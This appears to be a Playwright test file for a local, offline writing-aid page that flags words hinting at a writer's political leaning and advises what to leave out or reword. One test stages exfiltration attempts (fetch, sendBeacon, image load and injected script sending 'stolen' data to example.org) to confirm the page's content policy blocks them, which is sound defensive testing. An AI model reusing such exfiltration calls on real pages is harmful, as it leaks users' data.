"""`warn.html` from disk, in a real browser: it underlines while one types, and asks nobody."""

import json
import re

import pytest

from lowtide.browser.page import write_page

TEXT = (
    "Today we talk about climate.\n> their border\nwomen of the church, not unheard #ActOnClimate"
)


@pytest.fixture(scope="module")
def path(tmp_path_factory, draw):
    return write_page(draw(ngrams=2, seed=1), tmp_path_factory.mktemp("page") / "warn.html")


@pytest.fixture
def page(tab, path):
    tab.goto(path.as_uri())
    tab.wait_for_selector("#lt-text")
    return tab


def marked(page):
    return page.eval_on_selector_all(
        ".lt-mirror mark", "marks => marks.map(mark => mark.textContent)"
    )


def test_it_underlines_while_one_types_and_makes_no_request(page, path):
    page.locator("#lt-text").press_sequentially("we act on climate", delay=2)
    page.wait_for_selector(".lt-mirror mark")
    page.fill("#lt-text", TEXT)
    page.wait_for_function("() => document.querySelectorAll('.lt-mirror mark').length > 2")
    words = marked(page)
    assert "climate" in [word.lower() for word in words]
    assert not {"border", "their"} & set(words), "quoted lines are not the writer's"
    assert "quoted lines or code" in page.inner_text(".lt-notes")
    assert "#ActOnClimate is read as “act on climate”" in page.inner_text(".lt-notes")
    assert re.search(r"\d+ %", page.inner_text(".lt-verdict"))
    # What is underlined stands where it is written, and the mirror is as large as the field.
    boxes = page.evaluate(
        "() => ['.lt-mirror', '.lt-input'].map(name =>"
        " document.querySelector(name).getBoundingClientRect().toJSON())"
    )
    assert boxes[0] == boxes[1]
    page.wait_for_function(
        "() => document.getElementById('check').dataset.wrong === '0'", timeout=60_000
    )
    assert "500 test texts" in page.inner_text("#check")
    assert page.requests == [path.as_uri()]
    assert page.errors == []


def test_it_cannot_make_a_request(page, path):
    page.evaluate("""async () => {
          window.refused = [];
          const refuse = (event) => refused.push(event.effectiveDirective);
          document.addEventListener('securitypolicyviolation', refuse);
          await fetch('https://example.org/?stolen').catch(() => 0);
          navigator.sendBeacon('https://example.org/', 'stolen');
          new Image().src = 'https://example.org/stolen.png';
          const script = document.createElement('script');
          document.body.append(Object.assign(script, { textContent: 'window.ran = true' }));
          await new Promise((done) => setTimeout(done, 50));
        }""")
    assert {"connect-src", "img-src", "script-src-elem"} <= set(page.evaluate("window.refused"))
    assert page.evaluate("window.ran") is None
    assert page.refused == ["https://example.org/stolen.png"], "the only one that even came up"
    assert set(page.requests) == {path.as_uri(), *page.refused}
    policy = page.get_attribute("meta[http-equiv]", "content")
    assert "unsafe" not in policy
    assert "connect-src 'none'" in policy


def test_what_to_leave_out_brings_the_text_under_the_budget(page):
    page.fill("#lt-text", "women climate church union border tax school act income")
    page.locator("#lt-budget").fill("0.1")
    page.wait_for_selector(".lt-advice li")
    before = page.evaluate("lowtideWriter.found.leak")
    advised = page.eval_on_selector_all(
        ".lt-advice li", "items => items.map(item => item.textContent)"
    )
    assert all(line.startswith(("Leave out", "Reword")) for line in advised)
    page.click(".lt-remedy > button")
    assert page.evaluate("lowtideWriter.found.leak") <= 0.1 < before
    assert "within your budget" in page.inner_text(".lt-remedy")
    page.locator("#lt-text").press("Control+z")
    page.wait_for_function(
        "() => lowtideWriter.text === 'women climate church union border tax school act income'"
    )


def test_leaving_out_a_negation_is_not_offered(page):
    found = page.evaluate(
        "lowtideWriter.adviceFor('not 1,000 climate @gop', ['not', '1,000', 'climate', '@gop'])"
    )
    assert [one["said"].split()[0] for one in found] == ["Reword", "Reword", "Leave", "Leave"]
    assert [one["mayGo"] for one in found] == [False, False, True, True]


def test_the_history_adds_up_and_stays_in_the_browser_without_the_text(page):
    page.fill("#lt-text", "climate women")
    page.click("text=I have posted this")
    page.fill("#lt-text", "church union")
    page.click("text=I have posted this")
    kept = json.loads(
        page.evaluate("Object.entries(localStorage).find(([key]) => key.startsWith('lowtide'))[1]")
    )
    assert [sorted(post) for post in kept["me"]] == [["tells", "when"]] * 2
    assert not any(word in json.dumps(kept) for word in ("climate", "women", "church", "union"))
    page.reload()
    page.wait_for_selector("#lt-text")
    assert "With 2 posts" in page.inner_text("section[aria-label='All posts together']")
    total = page.evaluate("lowtideWriter.history.total('me').density")
    told = [sum(post["tells"][s] for post in kept["me"]) for s in range(2)]
    assert total[0] - total[1] == pytest.approx(told[0] - told[1])
    page.click("text=Forget these posts")
    assert "No post so far" in page.inner_text("section[aria-label='All posts together']")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_is_accessible_and_fits_a_phone(chromium, path, scheme):
    from axe_playwright_python.sync_playwright import Axe  # beside the browser

    context = chromium.new_context(
        viewport={"width": 390, "height": 844}, color_scheme=scheme, bypass_csp=True
    )
    page = context.new_page()
    page.goto(path.as_uri())
    page.wait_for_selector("#lt-text")
    page.fill("#lt-text", TEXT)
    page.wait_for_selector(".lt-mirror mark")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    page.wait_for_timeout(400)  # bars have come to rest
    found = Axe().run(page).response["violations"]
    assert [one["id"] for one in found if one["impact"] in ("serious", "critical")] == []
    context.close()
